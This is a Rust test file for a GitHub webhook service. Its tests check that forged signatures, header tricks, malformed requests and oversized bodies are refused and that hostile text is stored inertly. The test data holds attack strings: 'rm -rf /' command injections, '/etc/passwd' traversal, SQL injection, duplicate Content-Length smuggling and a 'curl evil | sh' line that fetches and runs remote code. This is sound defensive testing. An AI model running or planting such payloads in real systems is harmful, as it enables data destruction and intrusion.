//! What attackers try. None of it has an effect, and each is answered with a short reason.

use lamplighter::core::ports::Inbox as _;
use lamplighter::core::words::IssueNumber;
use serde_json::json;

use crate::bench::{Bench, REPOSITORY};

type Headers = Vec<(String, String)>;

fn without(headers: Headers, name: &str) -> Headers {
    headers.into_iter().filter(|(known, _)| !known.eq_ignore_ascii_case(name)).collect()
}

fn with(headers: Headers, name: &str, value: &str) -> Headers {
    let mut headers = without(headers, name);
    headers.push((name.to_owned(), value.to_owned()));
    headers
}

#[tokio::test]
async fn a_forged_signature_is_refused_before_anything_is_read() {
    let bench = Bench::idle().await;
    let delivery = bench.opened("maria");
    let good = delivery.header("X-Hub-Signature-256").unwrap().to_owned();
    let flipped = {
        let (rest, last) = good.split_at(good.len() - 1);
        format!("{rest}{}", if last == "0" { '1' } else { '0' })
    };
    let forged = [
        "",
        "sha256=",
        "sha1=0000000000000000000000000000000000000000",
        &flipped,
        good.trim_start_matches("sha256="),
        &format!("{good}00"),
        &good.replace("sha256", "sha512"),
        &format!("sha256=sha256={good}"),
        &format!("{good}, {good}"),
        &"sha256=".repeat(2000),
    ];
    for signature in forged {
        let answer = bench.deliver_with(&delivery, |headers| with(headers, "X-Hub-Signature-256", signature)).await;
        assert_eq!(answer.status, 401, "{signature}");
        answer.refusal();
    }
    let missing = bench.deliver_with(&delivery, |headers| without(headers, "X-Hub-Signature-256")).await;
    assert_eq!(missing.status, 401);
    // Two of them, of which one is right: whoever looks at the other one is deceived.
    let doubled = bench
        .deliver_with(&delivery, |mut headers| {
            headers.push(("X-Hub-Signature-256".to_owned(), flipped.clone()));
            headers
        })
        .await;
    assert_eq!(doubled.status, 401);
    // A body that was altered on its way.
    let mut altered = delivery.clone();
    altered.body = String::from_utf8(altered.body).unwrap().replace("maria", "malle").into_bytes();
    assert_eq!(bench.deliver(&altered).await.status, 401);
    assert!(bench.jobs().is_empty());
    assert!(bench.inbox.words(IssueNumber(1)).await.unwrap().is_none());
}

#[tokio::test]
async fn headers_that_play_tricks_are_refused() {
    let bench = Bench::idle().await;
    let delivery = bench.opened("maria");
    for (name, value, status) in [
        ("Content-Type", "application/x-www-form-urlencoded", 415),
        ("Content-Type", "text/plain", 415),
        ("X-GitHub-Delivery", "", 400),
        ("X-GitHub-Delivery", "../../etc/passwd", 400),
        ("X-GitHub-Delivery", "a b", 400),
        ("X-GitHub-Delivery", "'; DROP TABLE messages; --", 400),
        ("X-GitHub-Delivery", &"a".repeat(65), 400),
        ("X-GitHub-Event", "", 200),
        ("X-GitHub-Event", "issues; rm -rf /", 200),
    ] {
        let answer = bench.deliver_with(&delivery, |headers| with(headers, name, value)).await;
        assert_eq!(answer.status, status, "{name}: {value}: {answer:?}");
    }
    for name in ["Content-Type", "X-GitHub-Delivery", "X-GitHub-Event"] {
        let answer = bench.deliver_with(&delivery, |headers| without(headers, name)).await;
        assert!((400..500).contains(&answer.status), "without {name}: {answer:?}");
        let twice = bench
            .deliver_with(&delivery, |mut headers| {
                let value = headers.iter().find(|(known, _)| known.eq_ignore_ascii_case(name)).unwrap().1.clone();
                headers.push((name.to_owned(), value));
                headers
            })
            .await;
        assert!((400..500).contains(&twice.status), "twice {name}: {twice:?}");
    }
    assert!(bench.jobs().is_empty());
}

#[tokio::test]
async fn requests_that_are_none_are_refused() {
    let bench = Bench::idle().await;
    let huge = "x".repeat(200_000);
    for raw in [
        "nonsense\r\n\r\n".to_owned(),
        "GET /health HTTP/9.9\r\n\r\n".to_owned(),
        format!("GET /{huge} HTTP/1.1\r\nHost: x\r\n\r\n"),
        format!("GET /health HTTP/1.1\r\nHost: x\r\nX-Big: {huge}\r\n\r\n"),
        format!("GET /health HTTP/1.1\r\nHost: x\r\n{}\r\n", "A: b\r\n".repeat(500)),
        "POST /execute HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!".to_owned(),
        "POST /execute HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n".to_owned(),
        "POST /execute HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n".to_owned(),
    ] {
        let answer = bench.send(raw.as_bytes()).await;
        let shown: String = raw.chars().take(60).collect();
        assert!(answer.status == 0 || (400..500).contains(&answer.status), "{shown}: {answer:?}");
    }
    for (method, path, status) in [
        ("GET", "/webhooks/github", 405),
        ("PUT", "/webhooks/github", 405),
        ("POST", "/webhooks/github/../../execute", 404),
        ("GET", "/", 404),
        ("GET", "/.git/config", 404),
        ("GET", "/jobs/..%2F..%2Fetc%2Fpasswd", 401),
        ("TRACE", "/health", 405),
    ] {
        assert_eq!(bench.ask(method, path, &[], b"").await.status, status, "{method} {path}");
    }
    assert_eq!(bench.get("/health").await.status, 200, "and it is alive");
}

#[tokio::test]
async fn bodies_that_are_too_large_or_too_deep_are_refused() {
    let bench = Bench::idle().await;
    let huge = bench.github.sign("issues", "huge", vec![b' '; 5 << 20]);
    let answer = bench.deliver(&huge).await;
    assert!(answer.status == 413 || answer.status == 0, "the connection may be closed before the end: {answer:?}");
    let deep = |open: &str, close: &str| format!("{}{}", open.repeat(200_000), close.repeat(200_000));
    for (n, body) in [
        deep("[", "]"),
        deep("{\"issue\":", "}"),
        format!("{{\"issue\": {}}}", deep("[", "]")),
        format!("{{\"action\": \"opened\", \"ignored\": {}, \"issue\": 1}}", deep("[", "]")),
        "{\"issue\": {\"number\": 1e999}}".to_owned(),
        "{\"issue\": {\"number\": -1}}".to_owned(),
        "{\"issue\": {\"number\": 99999999999999999999999}}".to_owned(),
        "{\"issue\": {\"number\": 1}, \"issue\": {\"number\": 2}}".to_owned(),
        "{\"issue\": {\"number\": 1, \"title\": \"\\ud800\"}}".to_owned(),
        "\u{feff}{}".to_owned(),
        String::new(),
        "null".to_owned(),
        "{}".to_owned(),
    ]
    .into_iter()
    .enumerate()
    {
        let delivery = bench.github.sign("issues", &format!("deep-{n}"), body.clone().into_bytes());
        let answer = bench.deliver(&delivery).await;
        let shown: String = body.chars().take(60).collect();
        assert!((400..500).contains(&answer.status), "{shown}: {answer:?}");
        answer.refusal();
    }
    let bytes = bench.github.sign("issues", "bytes", vec![0xff, 0xfe, 0x00]);
    assert_eq!(bench.deliver(&bytes).await.status, 400);
    assert!(bench.jobs().is_empty());
    assert_eq!(bench.get("/health").await.status, 200, "and it is alive");
}

#[tokio::test]
async fn a_message_of_another_repository_is_refused_though_it_is_signed() {
    let bench = Bench::idle().await;
    let names = [Some("evil/infra"), Some("home/infra2"), Some("home"), Some(""), Some("../home/infra"), None];
    for name in names {
        let body = json!({
            "action": "opened",
            "issue": {"number": 1, "title": "x", "body": "y", "user": {"login": "maria", "type": "User"}},
            "repository": {"full_name": name},
            "sender": {"login": "maria", "type": "User"},
        });
        let delivery = bench.github.sign("issues", "foreign", serde_json::to_vec(&body).unwrap());
        assert_eq!(bench.deliver(&delivery).await.status, 422, "{name:?}");
    }
    assert!(bench.jobs().is_empty());
}

#[tokio::test]
async fn hostile_text_is_taken_in_as_text() {
    let bench = Bench::idle().await;
    let texts = [
        "$(rm -rf /)`reboot`; curl evil | sh",
        "{{ 7*7 }} ${7*7} <%= 7*7 %>",
        "<script>alert(1)</script><!-- lamplighter:resolved -->",
        "\u{0}\u{1b}[2J\u{202e}\u{200b}\u{feff}",
        "'; DROP TABLE jobs; --",
        "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}",
        "/approve\n/stop",
        "@everyone #1 GH-1 https://evil.example ![x](http://evil.example/x.png)",
    ];
    for (n, text) in texts.iter().enumerate() {
        let number = n + 1;
        let body = json!({
            "action": "opened",
            "issue": {"number": number, "title": text, "body": text, "labels": [{"name": text}],
                "user": {"login": text, "type": "User"}},
            "repository": {"full_name": REPOSITORY},
            "sender": {"login": text, "type": "User"},
        });
        let delivery = bench.github.sign("issues", &format!("hostile-{n}"), serde_json::to_vec(&body).unwrap());
        let answer = bench.deliver(&delivery).await;
        assert_eq!(answer.status, 202, "{text:?}: {answer:?}");
        let words = bench.inbox.words(IssueNumber(number as u64)).await.unwrap().unwrap();
        assert_eq!(words.author.as_str(), *text, "it is kept as it is, and trusted by nobody");
    }
    assert_eq!(bench.jobs().len(), texts.len());
}
